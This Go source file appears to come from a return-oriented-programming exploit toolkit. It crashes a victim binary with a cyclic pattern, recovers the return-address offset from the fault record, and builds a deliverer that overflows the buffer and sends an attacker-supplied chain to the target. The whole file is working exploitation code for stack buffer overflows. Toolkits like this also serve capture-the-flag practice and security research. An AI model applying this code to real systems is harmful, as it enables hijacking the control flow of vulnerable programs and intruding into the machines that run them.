package exploit

import (
	"fmt"

	"gitlab.com/stephen-fox/ropkit/crash"
	"gitlab.com/stephen-fox/ropkit/iokit"
	"gitlab.com/stephen-fox/ropkit/logflags"
	"gitlab.com/stephen-fox/ropkit/pattern"
)

// DefaultPatternLength is the length of the cyclic pattern sent
// to the victim when DiscoverOffsetConfig.OptPatternLength is zero.
const DefaultPatternLength = 1024

// CrashProcess is a victim process whose crash can be observed.
type CrashProcess interface {
	WriteLine(p []byte) error

	// WaitForCrash blocks until the process faults or exits.
	// It returns ErrNoCrash if the process exits normally.
	WaitForCrash() (crash.Info, error)

	Kill() error
}

// Spawner launches fresh victim processes for crash analysis.
type Spawner interface {
	Spawn(binaryPath string) (CrashProcess, error)
}

// SpawnFunc adapts a function to the Spawner interface.
type SpawnFunc func(binaryPath string) (CrashProcess, error)

// Spawn calls o(binaryPath).
func (o SpawnFunc) Spawn(binaryPath string) (CrashProcess, error) {
	return o(binaryPath)
}

// TracerSpawner returns a Spawner that launches victims with
// a crash.Tracer.
func TracerSpawner(tracer *crash.Tracer) Spawner {
	return SpawnFunc(func(binaryPath string) (CrashProcess, error) {
		p, err := tracer.Spawn(binaryPath)
		if err != nil {
			return nil, err
		}

		return p, nil
	})
}

// DiscoverOffsetConfig configures the DiscoverOffset stage.
type DiscoverOffsetConfig struct {
	// OptSpawner launches the victim that the pattern is sent to.
	// A crash.Tracer is used when nil.
	OptSpawner Spawner

	// OptPatternLength is the number of pattern bytes sent.
	// Return address offsets up to OptPatternLength minus
	// the word size can be discovered. Defaults to
	// DefaultPatternLength.
	OptPatternLength int
}

// DiscoverOffset returns a Stage that finds the offset of the return
// address slot from the start of the overflowed buffer. A fresh victim
// is sent a cyclic pattern and crashed. The offset is recovered from
// the pattern bytes found in the fault record.
//
// On success the state's Deliverer overflows the buffer up to the
// return address slot, followed by the chain.
func DiscoverOffset(config DiscoverOffsetConfig) Stage {
	return Stage{
		Name: "discover return address offset",
		Run: func(s *State) (*State, error) {
			return discoverOffset(s, config)
		},
	}
}

func discoverOffset(s *State, config DiscoverOffsetConfig) (*State, error) {
	err := s.checkInitialized()
	if err != nil {
		return s, err
	}

	if offset, known := s.ReturnAddressOffset(); known {
		s.Logger().Infof("return address offset is already known (%d)", offset)

		if s.deliverer == nil {
			d, err := newOverflowDeliverer(s, offset)
			if err != nil {
				return s, err
			}

			s.SetDeliverer(d)
		}

		return s, nil
	}

	spawner := config.OptSpawner
	if spawner == nil {
		spawner = TracerSpawner(&crash.Tracer{
			OptLogger: logflags.CrashLogger(),
		})
	}

	length := config.OptPatternLength
	if length == 0 {
		length = DefaultPatternLength
	}

	if length < s.Context.WordSize {
		return s, fmt.Errorf("pattern length must be at least %d bytes (%d)",
			s.Context.WordSize, length)
	}

	sent, err := s.Context.Pattern.Bytes(length)
	if err != nil {
		return s, fmt.Errorf("failed to generate pattern - %w", err)
	}

	victim, err := spawner.Spawn(s.BinaryPath)
	if err != nil {
		return s, fmt.Errorf("failed to spawn victim - %w", err)
	}
	defer victim.Kill()

	err = victim.WriteLine(sent)
	if err != nil {
		return s, fmt.Errorf("failed to write pattern to victim - %w", err)
	}

	info, err := victim.WaitForCrash()
	if err != nil {
		return s, fmt.Errorf("failed to crash victim - %w", err)
	}

	s.Logger().Debugf("victim crashed: %s", info)

	offset, err := offsetFromCrash(s, sent, info)
	if err != nil {
		return s, err
	}

	s.Logger().Infof("return address offset is %d", offset)

	err = s.SetReturnAddressOffset(offset)
	if err != nil {
		return s, err
	}

	d, err := newOverflowDeliverer(s, offset)
	if err != nil {
		return s, err
	}

	s.SetDeliverer(d)

	return s, nil
}

// offsetFromCrash returns the offset of the first crash candidate
// whose packed form occurs in sent.
func offsetFromCrash(s *State, sent []byte, info crash.Info) (int, error) {
	for _, candidate := range info.Candidates() {
		if candidate == 0 {
			continue
		}

		offset, err := pattern.Index(sent, s.Context.Pointers.Pack(candidate))
		if err == nil {
			return offset, nil
		}
	}

	return 0, fmt.Errorf("%w (%s)", ErrFaultNotInPattern, info)
}

// overflowDeliverer sends a pattern prefix that fills the buffer up to
// the return address slot, followed by the chain, as a single line.
type overflowDeliverer struct {
	target  Channel
	padding []byte
}

func newOverflowDeliverer(s *State, offset int) (*overflowDeliverer, error) {
	padding, err := iokit.NewPayloadBuilder().
		Pattern(s.Context.Pattern, offset).
		Build()
	if err != nil {
		return nil, fmt.Errorf("failed to generate overflow padding - %w", err)
	}

	return &overflowDeliverer{
		target:  s.Target,
		padding: padding,
	}, nil
}

func (o *overflowDeliverer) Deliver(chain []byte) error {
	if o.target == nil {
		return ErrNoTarget
	}

	payload, err := iokit.NewPayloadBuilder().
		Bytes(o.padding).
		Bytes(chain).
		Build()
	if err != nil {
		return err
	}

	return o.target.WriteLine(payload)
}
